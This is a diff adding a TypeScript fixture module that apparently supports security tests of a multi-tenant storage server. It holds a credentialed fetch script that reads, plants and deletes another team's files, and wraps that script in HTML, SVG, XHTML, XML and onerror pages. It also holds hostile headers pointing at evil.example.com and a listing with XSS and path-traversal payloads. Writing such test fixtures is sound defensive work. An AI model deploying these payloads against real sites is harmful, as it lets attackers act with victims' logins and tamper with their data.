@@ -1,0 +1,98 @@
+/** What a neighbour puts into its storage, or behind its path, to act with the login of whoever looks at it. */
+import type { Way } from "./walled-storages.ts";
+
+/** What a page does with a visitor's login: reads, writes and deletes in the team's storage, and says what came of it. */
+export function attack(vault: string): string {
+  return `(async () => {
+    const got = [];
+    for (const [method, name] of [["GET", "secret.txt"], ["PUT", "planted.txt"], ["DELETE", "victim.txt"]]) {
+      try {
+        const answer = await fetch("${vault}" + name, { method, credentials: "include", body: method === "PUT" ? "x" : undefined });
+        got.push(answer.status + " " + (method === "GET" ? (await answer.text()).trim() : ""));
+      } catch { got.push("failed"); }
+    }
+    document.documentElement.setAttribute("data-got", got.join(","));
+  })();`;
+}
+
+/** Every header with which one answer could set something for all storages, and a policy that allows all. */
+export const hostileHeaders = (way: Way) => ({
+  "content-type": "text/html",
+  "content-security-policy": "default-src * 'unsafe-inline'",
+  "set-cookie": "planted=1; Path=/",
+  "service-worker-allowed": "/",
+  "clear-site-data": '"*"',
+  "strict-transport-security": "max-age=1000",
+  "alt-svc": 'h2="evil.example.com:443"',
+  nel: '{"report_to":"r","max_age":1000}',
+  "report-to": '{"group":"r","max_age":1000,"endpoints":[{"url":"https://evil.example.com"}]}',
+  "reporting-endpoints": 'r="https://evil.example.com"',
+  refresh: `0; url=${way.origin}/`,
+  link: "<https://evil.example.com/>; rel=preload",
+  "access-control-allow-origin": "*",
+  "use-as-dictionary": 'match="/*"',
+  "x-powered-by": "the neighbour",
+});
+
+export const hostileListing = (team: string, vault: string) => ({
+  kind: "Index",
+  uri_prefix: `/storage/${team}/${vault}/`,
+  allow_upload: true,
+  allow_delete: true,
+  allow_search: true,
+  allow_archive: true,
+  dir_exists: true,
+  user: "<img src=x onerror=\"document.documentElement.setAttribute('data-got','ran')\">",
+  paths: [
+    `../../../${team}/${vault}/victim.txt`,
+    `/storage/${team}/${vault}/victim.txt`,
+    "..",
+    "javascript:document.documentElement.setAttribute('data-got','ran')",
+    "<script>document.documentElement.setAttribute('data-got','ran')</script>",
+  ].map((name) => ({ path_type: "File", name, mtime: 0, size: 1 })),
+});
+
+const xhtml = "http://www.w3.org/1999/xhtml";
+/** Name, file and content of each kind of page that runs a program. */
+export const attackPages: [string, string, (vault: string) => string][] = [
+  [
+    "HTML",
+    "page.html",
+    (vault) => `<!doctype html><html><body>x<script>${attack(vault)}</script></body></html>`,
+  ],
+  [
+    "SVG",
+    "page.svg",
+    (vault) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${attack(vault)}]]></script></svg>`,
+  ],
+  [
+    "XHTML",
+    "page.xhtml",
+    (vault) =>
+      `<html xmlns="${xhtml}"><head><title>x</title></head><body><script><![CDATA[${attack(vault)}]]></script></body></html>`,
+  ],
+  [
+    "XML with a script in it",
+    "page.xml",
+    (vault) => `<r><script xmlns="${xhtml}"><![CDATA[${attack(vault)}]]></script></r>`,
+  ],
+  [
+    "an event of an element",
+    "event.html",
+    (vault) => `<img src="x" onerror="${attack(vault).replaceAll('"', "&quot;")}">`,
+  ],
+  [
+    "a page without a type's end",
+    "page",
+    (vault) => `<!doctype html><html><script>${attack(vault)}</script></html>`,
+  ],
+];
+
+/** Files that are nothing but looked at. */
+export const shown = {
+  "plain.txt": "words\n",
+  "dot.svg":
+    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="20" height="20"/></svg>',
+  "note.pdf":
+    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+};
